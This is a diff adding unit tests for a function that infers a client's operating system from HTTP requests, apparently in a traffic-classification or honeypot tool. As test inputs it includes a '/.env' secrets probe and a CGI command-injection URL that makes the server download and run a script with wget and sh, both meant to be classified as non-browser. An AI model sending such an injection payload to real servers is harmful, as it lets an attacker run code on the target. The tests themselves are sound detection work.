@@ -1,6 +1,6 @@
 import { describe, it } from 'node:test';
 import assert from 'node:assert/strict';
-import { adbSignals, deviceFromJa4t, deviceFromUserAgent, httpSignals } from './signals.ts';
+import { adbSignals, deviceFromJa4t, deviceFromRequest, deviceFromUserAgent, httpSignals } from './signals.ts';
 
 const ua = (v: string) => ({ Host: 'example.com', 'User-Agent': v });
 
@@ -104,6 +104,20 @@ describe('deviceFromUserAgent', () => {
       assert.deepEqual(deviceFromUserAgent(agent), want);
     });
   }
+});
+
+describe('deviceFromRequest', () => {
+  const chrome = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36';
+  it('should read the device of a request that behaves like a browser', () => {
+    assert.deepEqual(deviceFromRequest(httpSignals('GET', '/blog/', ua(chrome)), chrome), { os: 'WINDOWS', version: '10' });
+    assert.deepEqual(deviceFromRequest(httpSignals('POST', '/login', ua(chrome)), chrome), { os: 'WINDOWS', version: '10' }, 'one login');
+  });
+  it('should name no device for a browser User-Agent on an exploit, a dropper or from a library', () => {
+    assert.equal(deviceFromRequest(httpSignals('GET', '/.env', ua(chrome)), chrome), undefined);
+    assert.equal(deviceFromRequest(httpSignals('GET', '/cgi-bin/x?;wget+http://198.51.100.7/a;sh+a', ua(chrome)), chrome), undefined);
+    const mixed = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) zgrab/0.x';
+    assert.equal(deviceFromRequest(httpSignals('GET', '/', ua(mixed)), mixed), undefined);
+  });
 });
 
 describe('deviceFromJa4t', () => {
